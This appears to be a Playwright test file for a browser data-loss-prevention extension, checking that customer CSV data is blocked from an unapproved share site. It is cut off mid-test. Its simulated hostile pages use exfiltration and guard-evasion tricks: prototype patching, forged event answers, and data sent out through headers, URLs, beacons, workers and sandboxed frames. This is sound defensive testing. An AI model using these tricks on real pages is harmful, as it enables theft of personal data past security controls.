// Uploads in a real Chromium: a customer list sends zero bytes to the blocked share site by every path,
// goes to the approved partner, and harmless files still go anywhere. Downloads from the CRM carry the label.
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect, expectLabel, demoPolicy, type Ext, type Sites } from './fixtures';
// @ts-expect-error plain ESM helper without types
import { customersCsv, generateCustomers } from '../sites/customers.mjs';

const CSV: string = customersCsv(generateCustomers(7, 80));
const bytes = (sites: Sites, host: string) => sites.requests.filter((r) => r.host === host && r.method !== 'GET' && r.method !== 'OPTIONS').reduce((n, r) => n + r.bodyBytes, 0);

async function open(ext: Ext, sites: Sites, host: string): Promise<Page> {
  await ext.importPolicy(demoPolicy());
  const page = await ext.page();
  await page.goto(sites.url(host, '/'));
  await expect(page.locator('#status')).toHaveText('ready');
  return page;
}

/** news.test under a policy that audits uploads to unapproved sites (so each judged upload leaves one event), and
 *  12 customers as CSV text. */
async function auditedNews(ext: Ext, sites: Sites, seed: number): Promise<{ page: Page; data: string }> {
  const policy = demoPolicy();
  policy.guards = [{ id: 'upload-audit', channels: ['upload', 'submit'], destination: 'unapproved', minPeople: 1, action: 'audit' }];
  await ext.importPolicy(policy);
  const page = await ext.page();
  await page.goto(sites.url('news.test', '/'));
  sites.clearRequests();
  const rows = generateCustomers(seed, 12) as { name: string; email: string; phone: string }[];
  return { page, data: '氏名,メール,電話\n' + rows.map((r) => `${r.name},${r.email},${r.phone}`).join('\n') };
}

async function events(ext: Ext): Promise<any[]> {
  const p = await ext.page();
  await p.goto(`chrome-extension://${ext.id}/options.html`);
  const r = await p.evaluate(() => (globalThis as any).chrome.runtime.sendMessage({ type: 'events.list', limit: 200 }));
  await p.close();
  return r.events;
}

test.describe('upload guard', () => {
  test('a customer CSV sends zero bytes to the blocked site by fetch, raw fetch, XHR, beacon and WebSocket', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    await page.locator('#paste-text').fill(CSV);
    for (const [btn, outcome] of [
      ['#btn-fetch', /^error: fetch/],
      ['#btn-fetch-raw', /^error: fetch \(raw body\)/],
      ['#btn-xhr', /^error: XMLHttpRequest: network error/],
      ['#btn-ws', /^error: WebSocket/],
      ['#btn-ws-text', /^error: WebSocket text/],
    ] as const) {
      await page.locator('#status').evaluate((e) => (e.textContent = ''));
      await page.locator(btn).click();
      await expect(page.locator('#status'), btn).toHaveText(outcome);
    }
    await page.locator('#btn-beacon').click();
    await expect(page.locator('#status')).toHaveText(/^beacon queued/);
    // The user is told why, with the rule.
    await expect(page.locator('maruhi-notice').first()).toBeAttached();
    // The hooks answer in order; by the time the notice for the beacon shows, nothing can still be in flight.
    const ev = await events(ext);
    expect(ev.filter((e) => e.channel === 'upload' && e.decision === 'block').length).toBeGreaterThanOrEqual(6);
    expect(bytes(sites, 'share.test')).toBe(0);
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'WS')).toEqual([]);
  });

  test('forms: urlencoded submit, form.submit() and requestSubmit() with customer data send nothing', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    await page.locator('#tf-message').fill(CSV);
    await page.locator('#btn-text-form').click();
    await expect(page.locator('maruhi-notice').first()).toBeAttached();
    await page.evaluate(() => (document.getElementById('text-form') as HTMLFormElement).submit());
    await page.evaluate(() => (document.getElementById('text-form') as HTMLFormElement).requestSubmit());
    const ev = await expect.poll(async () => (await events(ext)).filter((e) => e.channel === 'submit' && e.decision === 'block').length).toBeGreaterThanOrEqual(3);
    void ev;
    expect(bytes(sites, 'share.test')).toBe(0);
  });

  test('a hostile page that fishes for the hooks\' channel, forges answers and patches built-ins still sends nothing', async ({ ext, sites }) => {
    // It runs as early as a page script can: listens for every hello, says hello itself, forges "allow" answers on
    // every event name it sees, and patches the built-ins the hooks use to talk. The channel was agreed before it ran.
    const HOSTILE = `<!doctype html><meta charset="utf-8"><title>hostile bridge</title><p id="status"></p><script>
      const seen = [];
      const note = (s) => { seen.push(s); document.getElementById('status').dataset.seen = seen.join('|'); };
      for (const side of ['iso', 'main']) for (const ns of ['hooks', 'upload', 'print'])
        document.addEventListener('maruhi:' + ns + ':' + side + '-hello', (e) => note('hello ' + ns + ' ' + side + ' ' + typeof e.detail), true);
      for (const ns of ['hooks', 'upload', 'print']) document.dispatchEvent(new CustomEvent('maruhi:' + ns + ':main-hello'));
      const d0 = EventTarget.prototype.dispatchEvent;
      EventTarget.prototype.dispatchEvent = function (e) {
        if (e && typeof e.type === 'string' && e.type.startsWith('maruhi')) note('dispatch ' + e.type);
        if (e && e.type && e.type.endsWith(':req')) d0.call(document, new CustomEvent(e.type.slice(0, -4) + ':res', { detail: JSON.stringify({ id: 1, a: { allow: true } }) }));
        return d0.call(this, e);
      };
      window.CustomEvent = function () { note('CustomEvent'); return new Event('x'); };
      JSON.parse = () => ({ id: 1, a: { allow: true } });
      Map.prototype.get = function () { return undefined; };
    </script>`;
    await ext.importPolicy(demoPolicy());
    await ext.context.route(/\/\/share\.test:\d+\/hostile-bridge/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: HOSTILE }));
    const page = await ext.page();
    await page.goto(sites.url('share.test', '/hostile-bridge'));
    sites.clearRequests();
    const sent = await page.evaluate(async (csv) => {
      try {
        await fetch('/upload', { method: 'POST', body: csv });
        return 'sent';
      } catch (e) {
        return 'refused: ' + (e as Error).message;
      }
    }, CSV);
    expect(sent).toMatch(/^refused/);
    await expect(page.locator('maruhi-notice').first()).toBeAttached();
    expect(bytes(sites, 'share.test')).toBe(0);
    // It heard only its own hellos: no secret, no request event name.
    const seen = (await page.locator('#status').getAttribute('data-seen')) ?? '';
    expect(seen).not.toMatch(/string|dispatch maruhi:hooks:[a-z0-9]{8,}/);
    expect((await events(ext)).some((e) => e.channel === 'upload' && e.decision === 'block')).toBe(true);
  });

  test('a hostile page that rewrites built-ins around each send (then, instanceof, push, toUpperCase, lying init, later edits) never gets customers out', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    const email = CSV.split('\n')[1].split(',').find((c) => c.includes('@'))!;
    const outcomes = await page.evaluate(async (csv) => {
      const out: Record<string, string> = {};
      const xhr = (method: string, body: unknown) =>
        new Promise<string>((resolve) => {
          const x = new XMLHttpRequest();
          x.open(method, '/upload');
          x.onload = () => resolve('sent');
          x.onerror = () => resolve('refused');
          x.send(body as XMLHttpRequestBodyInit);
        });
      const tryFetch = (p: Promise<Response>) => p.then(() => 'sent', () => 'refused');
      // 1. Any object the hooks might resolve a promise with answers "allow" through Object.prototype.then.
      Object.defineProperty(Object.prototype, 'then', {
        configurable: true,
        get() {
          return this && typeof this === 'object' && 'allow' in this ? (res: (v: unknown) => void) => res(Object.assign(Object.create(null), { allow: true })) : undefined;
        },
      });
      const thenable = await tryFetch(fetch('/upload', { method: 'POST', body: csv }));
      delete (Object.prototype as { then?: unknown }).then;
      out.thenable = thenable;
      // 2. instanceof answered by the page: a Request body and a Blob that claim to be neither.
      Object.defineProperty(Request, Symbol.hasInstance, { value: () => false, configurable: true });
      Object.defineProperty(Blob, Symbol.hasInstance, { value: () => false, configurable: true });
      const req = tryFetch(fetch(new Request('/upload', { method: 'POST', body: csv })));
      const blob = xhr('POST', new Blob([csv]));
      delete (Request as { [Symbol.hasInstance]?: unknown })[Symbol.hasInstance];
      delete (Blob as { [Symbol.hasInstance]?: unknown })[Symbol.hasInstance];
      out.request = await req;
      out.blob = await blob;
      // 3. Array.prototype.push that drops everything, while a FormData is read.
      const push = Array.prototype.push;
      Array.prototype.push = function (this: unknown[]) {
        return this.length;
      };
      const fd = new FormData();
      fd.append('list', csv);
      const pushed = tryFetch(fetch('/upload', { method: 'POST', body: fd }));
      Array.prototype.push = push;
      out.push = await pushed;
      // 4. A method that upper-cases to GET.
      const upper = String.prototype.toUpperCase;
      String.prototype.toUpperCase = function () {
        return 'GET';
      };
      const post = xhr('post', csv);
      String.prototype.toUpperCase = upper;
      out.upper = await post;
      // 5. An init that shows the guard a harmless body and the browser the customers.
      let reads = 0;
      const init = new Proxy({} as RequestInit, {
        has: (_t, k) => k === 'method' || k === 'body',
        get: (_t, k) => (k === 'method' ? 'POST' : k === 'body' ? (reads++ === 0 ? 'hello' : csv) : undefined),
      });
      out.lying = await tryFetch(fetch('/upload', init));
      // 6. A harmless FormData sent, then filled with customers while the guard judges it.
      const later = new FormData();
      later.append('note', 'hello');
      const edited = xhr('POST', later);
      later.append('list', csv);
      out.edited = await edited;
      return out;
    }, CSV);
    expect(outcomes).toMatchObject({ thenable: 'refused', request: 'refused', blob: 'refused', push: 'refused', upper: 'refused' });
    // What the page got past the guard is what the guard saw: the harmless words, never a customer.
    const bodies = sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').map((r) => r.body.toString('utf8'));
    expect(bodies.join('\n')).not.toContain(email);
    expect(bodies.length).toBeLessThanOrEqual(2);
    // Refused by the hooks' judgement, not only by the network backstop for blocked hosts.
    const vias = (await events(ext)).filter((e) => e.channel === 'upload' && e.decision === 'block').map((e) => e.detail?.via);
    expect(vias.filter((v) => v === 'fetch').length).toBeGreaterThanOrEqual(3);
    expect(vias.filter((v) => v === 'xhr').length).toBeGreaterThanOrEqual(2);
  });

  test("a form whose own submit handler stops the event's propagation is still judged; one the page cancels is not sent", async ({ ext, sites }) => {
    // Added to the real share.test page (a page fulfilled by the test router would be "public" to Chromium's local
    // network checks, and its form posts to 127.0.0.1 refused for that reason alone).
    const page = await open(ext, sites, 'share.test');
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<form id="f1" method="post" action="/upload" target="sink"><textarea name="m" id="m1"></textarea><button id="b1">send</button></form>
         <form id="f2" method="post" action="/upload" target="sink"><textarea name="m" id="m2"></textarea><button id="b2">send</button></form>
         <iframe name="sink"></iframe>`,
      );
      document.getElementById('f1')!.addEventListener('submit', (e) => e.stopPropagation());
      document.getElementById('f2')!.addEventListener('submit', (e) => {
        e.stopImmediatePropagation();
        e.preventDefault();
      });
    });
    sites.clearRequests();
    const posts = () => sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST');
    await page.locator('#m1').fill(CSV);
    await page.locator('#b1').click();
    await expect(page.locator('maruhi-notice').first()).toBeAttached();
    await expect.poll(async () => (await events(ext)).filter((e) => e.channel === 'submit' && e.decision === 'block').length).toBe(1);
    // The page cancels its own form: nothing is sent, by it or by the guard.
    await page.locator('#m2').fill('hello');
    await page.locator('#b2').click();
    // Harmless text in the stopped form still goes, once.
    await page.locator('#m1').fill('hello world');
    await page.locator('#b1').click();
    await expect.poll(() => posts().length).toBe(1);
    await page.waitForTimeout(500);
    expect(posts().map((r) => r.body.toString('utf8'))).toEqual(['m=hello+world']);
  });

  test("a page that defines maruhi's tag names as its own custom elements still shows the label and the notice", async ({ ext, sites }) => {
    // Its constructors run on any element of that name the document creates, and take the shadow root first.
    const TAGS = ['maruhi-banner', 'maruhi-notice', 'maruhi-dialog', 'maruhi-watermark', 'maruhi-pledge', 'maruhi-print', 'maruhi-privacy'];
    const PAGE = `<!doctype html><meta charset="utf-8"><title>customers</title><p id="status"></p><script>
      for (const tag of ${JSON.stringify(TAGS)})
        customElements.define(tag, class extends HTMLElement {
          constructor() { super(); this.attachShadow({ mode: 'closed' }); document.getElementById('status').textContent += tag + ';'; }
          connectedCallback() { this.style.display = 'none'; }
        });
    </script>`;
    await ext.importPolicy(demoPolicy());
    await ext.context.route(/\/\/crm\.test:\d+\/customers-ce/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: PAGE }));
    const page = await ext.page();
    await page.goto(sites.url('crm.test', '/customers-ce'));
    await expectLabel(page, 'confidential', { reload: false });
    const shown = (sel: string) => page.locator(sel).first().evaluate((e) => e.getBoundingClientRect().height > 0 && getComputedStyle(e).display !== 'none');
    expect(await shown('maruhi-banner')).toBe(true);
    sites.clearRequests();
    const sent = await page.evaluate((args) => fetch(args.url, { method: 'POST', body: args.csv, mode: 'no-cors' }).then(() => 'sent', (e) => 'refused ' + e), { url: sites.url('share.test', '/upload'), csv: CSV });
    expect(sent).toMatch(/^refused/);
    await expect(page.locator('maruhi-notice').first()).toBeAttached();
    expect(await shown('maruhi-notice')).toBe(true);
    expect(bytes(sites, 'share.test')).toBe(0);
  });

  test('customers posted URL-encoded (as jQuery does) or split over form boxes are still seen, and send nothing', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    const rows = generateCustomers(9, 15) as { name: string; email: string; address: string }[];
    const body = rows.map((r, i) => `c${i}%5Bname%5D=${encodeURIComponent(r.name)}&c${i}%5Bmail%5D=${encodeURIComponent(r.email)}&c${i}%5Baddr%5D=${encodeURIComponent(r.address)}`).join('&');
    const xhr = await page.evaluate(
      (b) =>
        new Promise<string>((resolve) => {
          const x = new XMLHttpRequest();
          x.open('POST', '/upload');
          x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8');
          x.onload = () => resolve('sent ' + x.status);
          x.onerror = () => resolve('refused');
          x.send(b);
        }),
      body,
    );
    expect(xhr).toBe('refused');
    // A Japanese sign-up form: name, and the phone in three boxes.
    const form = await page.evaluate(() => {
      const fd = new FormData();
      fd.append('name', '山田 太郎');
      for (const [k, v] of [['tel1', '090'], ['tel2', '1234'], ['tel3', '5678']]) fd.append(k, v);
      return fetch('/upload', { method: 'POST', body: fd }).then(() => 'sent', () => 'refused');
    });
    expect(bytes(sites, 'share.test')).toBe(0);
    const ev = await events(ext);
    const xhrEvent = ev.find((e) => e.channel === 'upload' && e.detail?.via === 'xhr');
    expect(xhrEvent?.decision).toBe('block');
    expect(xhrEvent?.detection?.people).toBe(15);
    const formEvent = ev.find((e) => e.channel === 'upload' && e.detail?.via === 'fetch');
    expect(formEvent?.detection?.counts?.phone, form).toBe(1);
  });

  test('customers put in a URL (GET fetch, XHR, beacon, a GET form) do not reach the blocked site; a plain search still goes', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    const rows = generateCustomers(11, 12) as { name: string; email: string; phone: string }[];
    const data = rows.map((r) => `${r.name},${r.email},${r.phone}`).join('\n');
    const got = await page.evaluate(async (d) => {
      const q = '?d=' + encodeURIComponent(d);
      const out: string[] = [];
      out.push(await fetch('/q-fetch' + q).then(() => 'sent', () => 'refused'));
      out.push(await fetch(new Request('/q-request' + q)).then(() => 'sent', () => 'refused'));
      // phones written without hyphens, and nothing else
      const plain = d.split('\n').map((l) => l.split(',')[2].replace(/-/g, '')).join(',');
      out.push(await fetch('/q-plain?tel=' + plain).then(() => 'sent', () => 'refused'));
      out.push(
        await new Promise<string>((resolve) => {
          const x = new XMLHttpRequest();
          x.open('GET', '/q-xhr?rows=' + encodeURIComponent(d).replace(/%20/g, '+'));
          x.onload = () => resolve('sent');
          x.onerror = () => resolve('refused');
          x.send();
        }),
      );
      navigator.sendBeacon('/q-beacon' + q);
      // A GET form sends its fields in the URL: one submitted by a button, one by form.submit().
      const frame = document.createElement('iframe');
      frame.name = 'q-frame';
      document.body.append(frame);
      for (const [path, how] of [['/q-form', 'button'], ['/q-form-submit', 'submit()']]) {
        const f = document.createElement('form');
        f.method = 'get';
        f.action = path;
        f.target = 'q-frame';
        f.innerHTML = '<textarea name="customers"></textarea><button>go</button>';
        f.querySelector('textarea')!.value = d;
        document.body.append(f);
        if (how === 'button') f.querySelector('button')!.click();
        else f.submit();
      }
      // Harmless: paging and an English search go at once; a Japanese search is judged and still goes.
      out.push(await fetch('/q-harmless?page=2&sort=name&from=2024-01-15').then(() => 'sent', () => 'refused'));
      const s = document.createElement('form');
      s.method = 'get';
      s.action = '/q-search';
      s.target = 'q-frame';
      s.innerHTML = '<input name="q" value="見積書 テンプレート">';
      document.body.append(s);
      s.requestSubmit();
      return out;
    }, data);
    expect(got).toEqual(['refused', 'refused', 'refused', 'refused', 'sent']);
    await expect.poll(() => sites.requests.some((r) => r.path === '/q-search')).toBe(true);
    await expect.poll(async () => (await events(ext)).filter((e) => e.channel === 'submit' && e.decision === 'block').length).toBe(2);
    const ev = await events(ext);
    const viaUpload = ev.filter((e) => e.channel === 'upload' && e.decision === 'block').map((e) => e.detail?.via).sort();
    expect(viaUpload).toEqual(['beacon', 'fetch', 'fetch', 'fetch', 'xhr']);
    // Every list is 12 people; of phones written without hyphens, those far from the 'tel' label and not mobile
    // (a 10-digit landline could be any number) are not counted.
    const people = ev.filter((e) => e.decision === 'block').map((e) => e.detection?.people as number).sort((a, b) => a - b);
    expect(people.slice(1)).toEqual([12, 12, 12, 12, 12, 12]);
    expect(people[0]).toBeGreaterThanOrEqual(6);
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.path.startsWith('/q-') && r.path !== '/q-harmless' && r.path !== '/q-search')).toEqual([]);
  });

  test('customers put in request headers (fetch, a Request, XHR) do not reach the blocked site; ordinary headers still go', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    const rows = generateCustomers(23, 12) as { name: string; email: string; phone: string }[];
    const data = rows.map((r) => `${r.name},${r.email},${r.phone}`).join('\n');
    const got = await page.evaluate(async (d) => {
      const v = encodeURIComponent(d); // (a header value must be Latin-1: the page encodes it)
      const out: string[] = [];
      out.push(await fetch('/h-fetch', { headers: { 'x-data': v } }).then(() => 'sent', () => 'refused'));
      out.push(await fetch(new Request('/h-request', { method: 'POST', body: 'ok', headers: { 'x-data': v } })).then(() => 'sent', () => 'refused'));
      out.push(
        await new Promise<string>((resolve) => {
          const x = new XMLHttpRequest();
          x.open('GET', '/h-xhr');
          x.setRequestHeader('X-Rows', v);
          x.onload = () => resolve('sent');
          x.onerror = () => resolve('refused');
          x.send();
        }),
      );
      // Ordinary headers go at once: a token, a request id, a content type.
      out.push(
        await fetch('/h-harmless', { headers: { authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abc', 'x-request-id': 'req-7f3a9c21', 'content-type': 'application/json' } }).then(
          () => 'sent',
          () => 'refused',
        ),
      );
      return out;
    }, data);
    expect(got).toEqual(['refused', 'refused', 'refused', 'sent']);
    const ev = await events(ext);
    expect(ev.filter((e) => e.channel === 'upload' && e.decision === 'block').map((e) => `${e.detail?.via} ${e.detection?.people}`).sort()).toEqual(['fetch 12', 'fetch 12', 'xhr 12']);
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.path.startsWith('/h-')).map((r) => r.path)).toEqual(['/h-harmless']);
  });

  test('customers in the address of an image, a frame, a navigation, a socket, an event stream or a sandboxed frame\'s fetch never reach the blocked site (network backstop)', async ({ ext, sites }) => {
    await ext.importPolicy(demoPolicy());
    const page = await ext.page();
    await page.goto(sites.url('news.test', '/'));
    sites.clearRequests();
    const rows = generateCustomers(13, 6) as { name: string; email: string; phone: string }[];
    const share = sites.url('share.test', '/');
    await page.evaluate(
      async ([d, phones, share]) => {
        const q = '?d=' + encodeURIComponent(d);
        new Image().src = share + 'u-img' + q;
        const f = document.createElement('iframe');
        f.src = share + 'u-frame?p=' + phones;
        document.body.append(f);
        // A frame sandboxed without scripts runs no content script: its fetch is the browser's own.
        const s = document.createElement('iframe');
        s.setAttribute('sandbox', 'allow-same-origin');
        document.body.append(s);
        await (s.contentWindow as any).fetch(share + 'u-sandbox' + q, { mode: 'no-cors' }).catch(() => {});
        const w = document.createElement('iframe');
        document.body.append(w);
        w.contentWindow!.location.href = share + 'u-nav' + q;
        window.open(share + 'u-top' + q, '_blank'); // a whole tab
        const plain = document.createElement('script'); // phones without hyphens
        plain.src = share + 'u-plain?t=' + phones.replace(/-/g, '');
        document.head.append(plain);
        // Harmless addresses on the same site still load.
        new Image().src = share + 'u-harmless?page=2&from=2024-01-15&ts=1700000000000';
        // A socket's or an event stream's address: the constructor returns at once, so no hook can hold it.
        const ws = (url: string) => new Promise<void>((r) => {
          const x = new WebSocket(url);
          x.onerror = x.onopen = () => (x.close(), r());
        });
        const es = new EventSource(share + 'u-es' + q);
        es.onerror = () => es.close(); // (it would retry)
        await ws(share.replace(/^http/, 'ws') + 'u-ws' + q);
        // An unapproved site (this one) cannot be refused this way: the pixel and the socket are recorded as they leave.
        new Image().src = location.origin + '/u-pixel' + q;
        await ws(location.origin.replace(/^http/, 'ws') + '/ws' + q);
        await new Promise((r) => setTimeout(r, 1500));
      },
      [rows.map((r) => `${r.name},${r.email},${r.phone}`).join('\n'), rows.map((r) => r.phone).join(','), share],
    );
    await expect.poll(() => sites.requests.some((r) => r.path === '/u-harmless')).toBe(true);
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.path.startsWith('/u-') && r.path !== '/u-harmless').map((r) => r.path)).toEqual([]);
    // Each is on record: refused by the backstop at the blocked site, sent and audited at the unapproved one.
    const line = (e: any) => `${e.decision} ${e.rule} ${e.detail?.request} ${e.destinationHost} ${e.detail?.inUrl} ${e.detection?.people}`;
    // The phones without hyphens: refused by their own rule; the detector counts the mobile ones at least.
    await expect.poll(async () => (await events(ext)).filter((e) => e.detail?.request === 'script').map(line)).toEqual([expect.stringMatching(/^block paste-blocked script share\.test true [1-6]$/)]);
    await expect.poll(async () => (await events(ext)).filter((e) => e.detail?.unjudged && e.detail?.request !== 'script').map(line).sort()).toEqual(
      [
        'audit upload-unapproved image news.test true 6',
        'audit upload-unapproved websocket news.test true 6',
        'block paste-blocked image share.test true 6',
        'block paste-blocked websocket share.test true 6',
        'block paste-blocked xmlhttprequest share.test true 6', // the event stream
        'block paste-blocked sub_frame share.test true 6', // the frame's address
        'block paste-blocked sub_frame share.test true 6', // the navigation of another frame
        'block paste-blocked main_frame share.test true 6', // the new tab
        'block paste-blocked xmlhttprequest share.test true 6',
      ].sort(),
    );
  });

  test('the same from an about:blank iframe and from a worker (network backstop)', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    const fromFrame = await page.evaluate(async (csv) => {
      const f = document.createElement('iframe');
      document.body.append(f);
      try {
        await (f.contentWindow as any).fetch(location.origin + '/upload', { method: 'POST', body: csv });
        return 'sent';
      } catch (e) {
        return 'refused: ' + (e as Error).message;
      }
    }, CSV);
    expect(fromFrame).toMatch(/^refused/);
    const fromWorker = await page.evaluate(async (csv) => {
      const code = `onmessage = async (e) => { try { await fetch(e.data.url, { method: 'POST', body: e.data.csv }); postMessage('sent'); } catch (err) { postMessage('refused: ' + err.message); } };`;
      const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      return new Promise<string>((resolve) => {
        w.onmessage = (e) => resolve(e.data);
        w.postMessage({ url: location.origin + '/upload', csv });
      });
    }, CSV);
    expect(fromWorker).toMatch(/^refused/);
    expect(bytes(sites, 'share.test')).toBe(0);
  });

  test('uploads no hook can judge (a worker, a frame sandboxed without scripts) are recorded as they leave; judged ones are not recorded twice', async ({ ext, sites }) => {
    // Uploads to unapproved sites are audited (recorded, let through) here, so each judged upload leaves one event.
    const { page, data } = await auditedNews(ext, sites, 17);
    const share = sites.url('share.test', '/');
    const out = await page.evaluate(
      async ([d, share]) => {
        const r: string[] = [];
        const code = `onmessage = async (e) => { try { const x = await fetch(e.data.url, { method: 'POST', body: e.data.d }); postMessage('sent ' + x.status); } catch (err) { postMessage('refused'); } };`;
        const worker = (url: string) =>
          new Promise<string>((resolve) => {
            const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
            w.onmessage = (e) => resolve(e.data);
            w.postMessage({ url, d });
          });
        r.push(await worker(location.origin + '/from-worker'));
        const s = document.createElement('iframe');
        s.setAttribute('sandbox', 'allow-same-origin');
        document.body.append(s);
        r.push(await (s.contentWindow as any).fetch(location.origin + '/from-sandbox', { method: 'POST', body: d }).then(() => 'sent', () => 'refused'));
        r.push(await fetch(location.origin + '/from-page', { method: 'POST', body: d }).then(() => 'sent', () => 'refused'));
        r.push(await worker(share + 'from-worker-blocked'));
        return r;
      },
      [data, share],
    );
    expect(out[0]).toMatch(/^sent/);
    expect(out.slice(1)).toEqual(['sent', 'sent', 'refused']);
    const ev = await expect
      .poll(async () => (await events(ext)).filter((e) => e.channel === 'upload').length)
      .toBe(4)
      .then(() => events(ext));
    const up = ev.filter((e) => e.channel === 'upload');
    const line = (e: any) => `${e.decision} ${e.rule} ${e.detail?.via} ${e.detail?.unjudged ?? false} ${e.destinationHost} ${e.detection?.people}`;
    expect(up.map(line).sort()).toEqual(
      [
        'audit upload-audit fetch false news.test 12', // the page's own fetch: judged by the hooks, recorded once
        'audit upload-audit network true news.test 12', // the worker
        'audit upload-audit network true news.test 12', // the sandboxed frame
        'block upload-audit network true share.test 12', // the worker, refused by the network backstop all the same
      ].sort(),
    );
    // Each unjudged record names the page it left from.
    expect(up.filter((e) => e.detail?.unjudged && e.destinationHost === 'news.test').map((e) => e.pageHost)).toEqual(['news.test', 'news.test']);
    expect(sites.bytesReceived('share.test')).toBe(0);
  });

  test('a judged upload opens a pass for its own address only: an unjudged upload to it is recorded as sent, one elsewhere on the blocked site is refused', async ({ ext, sites }) => {
    const { page, data } = await auditedNews(ext, sites, 19);
    const out = await page.evaluate(
      async ([d, share]) => {
        // judged by the hooks (audited, let through): the tab gets a short pass to share.test/judged
        const a = await fetch(share + 'judged', { method: 'POST', body: d, mode: 'no-cors' }).then(() => 'sent', () => 'refused');
        // a worker's uploads no hook sees: to that address, and elsewhere on the same site
        const code = `onmessage = async (e) => { try { await fetch(e.data.url, { method: 'POST', body: e.data.d, mode: 'no-cors' }); postMessage('sent'); } catch { postMessage('refused'); } };`;
        const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        const post = (url: string) =>
          new Promise<string>((resolve) => {
            w.onmessage = (e) => resolve(e.data);
            w.postMessage({ url, d });
          });
        return [a, await post(share + 'judged'), await post(share + 'elsewhere')];
      },
      [data, sites.url('share.test', '/')],
    );
    expect(out).toEqual(['sent', 'sent', 'refused']);
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').map((r) => r.path)).toEqual(['/judged', '/judged']);
    const up = await expect
      .poll(async () => (await events(ext)).filter((e) => e.channel === 'upload').length)
      .toBe(3)
      .then(async () => (await events(ext)).filter((e) => e.channel === 'upload'));
    const line = (e: any) => `${e.decision} ${e.detail?.via} ${e.destinationHost} pass:${e.detail?.backstopPass ?? false} backstop:${e.detail?.backstop ?? false}`;
    expect(up.map(line).sort()).toEqual(
      [
        'audit fetch share.test pass:false backstop:false', // judged
        'audit network share.test pass:true backstop:false', // rode the pass: sent, and recorded as sent
        'block network share.test pass:false backstop:true', // refused
      ].sort(),
    );
  });

  test('a pass survives a stopped service worker, the next one is granted all the same (no clash of rule ids), and one that fell due while it was stopped is gone', async ({ ext, sites }) => {
    await ext.importPolicy(demoPolicy());
    const post = async (page: Page, path: string) =>
      page.evaluate(async (p) => {
        const f = document.createElement('form');
        f.method = 'post';
        f.action = p;
        f.target = 'sink';
        f.innerHTML = '<input name="memo" value="会議は15時からです">';
        const sink = document.createElement('iframe');
        sink.name = 'sink';
        document.body.append(sink, f);
        const loaded = new Promise((r) => (sink.onload = r));
        f.requestSubmit();
        await loaded;
      }, path);
    const a = await open(ext, sites, 'share.test');
    sites.clearRequests();
    await post(a, '/upload-a');
    await expect.poll(() => sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').length).toBe(1);
    // Chromium stops idle service workers; a stopped worker loses its timers, not its session rules.
    const cdp = await a.context().newCDPSession(a);
    await cdp.send('ServiceWorker.enable');
    await cdp.send('ServiceWorker.stopAllWorkers');
    const b = await ext.page();
    await b.goto(sites.url('share.test', '/'));
    await expect(b.locator('#status')).toHaveText('ready');
    await post(b, '/upload-b');
    await expect.poll(() => sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').map((r) => r.path)).toEqual(['/upload-a', '/upload-b']);
    // A pass that fell due while the worker was stopped is gone when it starts again: the tab's old address is
    // closed to an upload no hook judged (a worker's), as it would have been had the timer fired.
    await cdp.send('ServiceWorker.stopAllWorkers');
    await a.waitForTimeout(31_000);
    await events(ext); // wakes the service worker
    await a.waitForTimeout(500);
    const fromWorker = await a.evaluate(async (csv) => {
      const code = `onmessage = async (e) => { try { await fetch(e.data.url, { method: 'POST', body: e.data.csv }); postMessage('sent'); } catch { postMessage('refused'); } };`;
      const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      return new Promise<string>((resolve) => {
        w.onmessage = (e) => resolve(e.data);
        w.postMessage({ url: location.origin + '/upload-a', csv });
      });
    }, CSV);
    expect(fromWorker).toBe('refused');
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').map((r) => r.path)).toEqual(['/upload-a', '/upload-b']);
  });

  test('a harmless form the whole page posts to the blocked site still goes: the backstop lets a judged post through, navigations included', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    await page.evaluate(() => {
      const f = document.createElement('form');
      f.method = 'post';
      f.action = '/upload';
      f.innerHTML = '<input name="memo" value="会議は15時からです">';
      document.body.append(f);
      f.requestSubmit();
    });
    await expect(page).toHaveURL(/\/upload$/);
    expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST' && r.path === '/upload')).toHaveLength(1);
  });

  test('the approved partner gets the customer CSV', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'partner.test');
    sites.clearRequests();
    await page.locator('#paste-text').fill(CSV);
    await page.locator('#btn-fetch').click();
    await expect(page.locator('#status')).toHaveText(/^uploaded \d+ bytes via fetch/);
    await page.locator('#btn-xhr').click();
    await expect(page.locator('#status')).toHaveText(/^uploaded \d+ bytes via XMLHttpRequest/);
